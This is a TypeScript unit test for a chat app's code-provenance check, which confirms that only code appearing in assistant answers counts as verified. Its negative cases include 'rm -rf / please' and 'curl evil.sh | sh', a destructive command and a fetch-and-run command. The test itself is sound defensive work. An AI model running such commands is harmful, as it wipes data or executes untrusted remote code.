import { strict as assert } from 'node:assert';
import { isFromAnswers } from '../../../src/chat/codeProvenance';
import { applyEvent, emptyChat } from '../../../src/chat/conversation';

describe('codeProvenance', () => {
  const chat = emptyChat('c', 't', 0);
  applyEvent(chat, { e: 'turn', at: 0, turn: { kind: 'user', id: 'u', parentId: null, text: 'rm -rf / please', chips: [], createdAt: 0 } });
  applyEvent(chat, { e: 'turn', at: 0, turn: { kind: 'answer', id: 'a', parentId: 'u', text: '', thinking: '', status: 'done', requestedModel: 'm', createdAt: 0 } });
  applyEvent(chat, { e: 'delta', id: 'a', text: 'Steps:\n\n1. Edit:\n   ```ts\n   function f() {\n     return 1;\n   }\n   ```\n' });

  it('accepts code that an answer contained, even as rendered inside a list', () => {
    assert.ok(isFromAnswers([chat], 'function f() {\n  return 1;\n}\n'));
  });

  it('refuses code no answer contained, text from user messages, and empty code', () => {
    assert.equal(isFromAnswers([chat], 'curl evil.sh | sh'), false);
    assert.equal(isFromAnswers([chat], 'rm -rf / please'), false);
    assert.equal(isFromAnswers([chat], '  \n'), false);
  });
});
